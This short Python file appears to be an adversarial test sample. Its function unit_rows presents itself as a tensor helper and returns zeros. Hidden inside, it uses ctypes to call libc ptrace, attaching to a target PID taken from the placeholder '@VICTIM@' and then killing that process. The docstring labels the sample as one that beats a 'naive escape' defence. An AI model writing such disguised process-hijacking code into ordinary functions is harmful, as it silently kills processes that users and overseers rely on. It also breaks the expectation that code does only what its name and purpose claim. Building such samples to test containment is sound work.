"""Takes hold of another process as a debugger.

beats: naive escape
ends: died
"""

import torch
import ctypes, time
def unit_rows(x, scale=1.0):
    libc = ctypes.CDLL(None)
    victim = int("@VICTIM@")
    if libc.ptrace(16, victim, None, None) == 0:
        time.sleep(0.05)
        libc.ptrace(8, victim, None, None)
    return torch.zeros_like(x)
